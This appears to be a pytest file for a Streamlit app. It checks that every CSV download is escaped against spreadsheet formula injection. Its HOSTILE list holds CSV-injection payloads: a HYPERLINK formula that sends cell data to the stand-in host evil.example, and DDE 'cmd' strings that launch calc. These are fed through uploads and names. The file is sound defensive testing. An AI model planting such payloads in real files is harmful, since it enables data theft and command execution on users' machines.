"""Every file the app offers for download is safe to open in a spreadsheet (issue 16 §2).

Hostile text (``=HYPERLINK(…)``, ``+cmd|…``, ``@SUM(…)``) goes in through every door a user has:
uploaded stakeholder and inbox files, group and scenario names. Then every page is run with every
download button made to appear, and every CSV cell is checked. The labels of the buttons seen must
be every ``st.download_button`` label written in pages/ and ui/, so a new download cannot escape.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from streamlit.testing.v1 import AppTest

from present.csv_export import FORMULA_TRIGGERS, escape_cell

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
def csv_file(header: list[str], rows: list[list[object]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    return buffer.getvalue().encode()


STAKEHOLDERS = csv_file(
    ["group", "population", "reach_share", "messages_per_follower_per_year", "current_level",
     "target_level", "why", "phone_substitution_share", "visit_substitution_share"],
    [*([bad, bad, 0.25, 1.5, "Inform", "Consult", bad, 0.2, 0.05] for bad in HOSTILE),
     ["Allotment holders", 800, 0.6, 2, "Consult", "Involve", "", 0.1, 0]])
INBOX = csv_file(
    ["tweet_id", "author_id", "inbound", "created_at", "text", "response_tweet_id",
     "in_response_to_tweet_id"],
    [*([i, f"u{i}", "True", bad, bad, "", ""] for i, bad in enumerate(HOSTILE, 1)),
     [99, "u9", "True", "Tue Oct 31 22:10:47 +0000 2017", "hello", "", ""]])


def download_labels_in_source() -> set[str]:
    """The label of every st.download_button call in the app's code."""
    call = re.compile(r"download_button\(\s*(?:f?\"([^\"]+)\")")
    labels = set()
    for path in [*ROOT.glob("pages/*.py"), *ROOT.glob("ui/*.py"), ROOT / "app.py"]:
        labels |= set(call.findall(path.read_text(encoding="utf-8")))
    return labels


def labels_shown(at: AppTest) -> set[str]:
    return {element.proto.label for element in at.get("download_button")}


def unsafe_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula (what ``escape_cell`` would still change)."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row
            if cell.startswith(FORMULA_TRIGGERS) and escape_cell(cell) != cell]


def hostile_scenario(at: AppTest) -> None:
    scenario = at.session_state["scenario"]
    renamed = {group.group: HOSTILE[i % len(HOSTILE)] + f" {i}"
               for i, group in enumerate(scenario.groups)}
    groups = tuple(replace(group, group=renamed[group.group], why=HOSTILE[0],
                           part_of=renamed.get(group.part_of, group.part_of))
                   for group in scenario.groups)
    at.session_state["scenario"] = replace(scenario, name=HOSTILE[1], groups=groups)


def test_every_download_on_every_page_is_formula_safe(
    app_page: Callable[[str], AppTest], downloads: dict[str, bytes],
) -> None:
    seen: set[str] = set()

    at = app_page("pages/data.py")
    at.file_uploader(key="stakeholder_file_0").upload("groups.csv", STAKEHOLDERS, "text/csv")
    at.file_uploader(key="inbox_file_0").upload("inbox.csv", INBOX, "text/csv").run()
    assert not at.exception
    seen |= labels_shown(at)

    at = app_page("pages/review.py")
    at.file_uploader(key="review_inbox_0").upload(
        "later.csv", (ROOT / "sample_data" / "review_export_synthetic.csv").read_bytes(),
        "text/csv").run()
    hostile_scenario(at)
    at.run()
    assert not at.exception
    seen |= labels_shown(at)

    at = app_page("pages/scenarios.py")
    hostile_scenario(at)
    at.session_state["scenarios_tab"] = "Export and import"
    at.run()
    at.button(key="pdf_prepare").click().run()
    assert not at.exception
    seen |= labels_shown(at)

    for page in ("home", "education", "assessment", "commitment", "uncertainty"):
        at = app_page(f"pages/{page}.py")
        seen |= labels_shown(at)

    assert seen == download_labels_in_source()
    csv_files = {name: data for name, data in downloads.items() if name.endswith(".csv")}
    assert {"groups_problems.csv", "inbox_problems.csv"} <= set(csv_files)
    assert len(csv_files) >= 6
    for name, data in csv_files.items():
        assert unsafe_cells(data) == [], f"{name} has cells a spreadsheet would run"
    problems = csv_files["groups_problems.csv"].decode("utf-8-sig")
    assert "'+cmd|' /C calc'!A0" in problems  # kept, escaped, not dropped
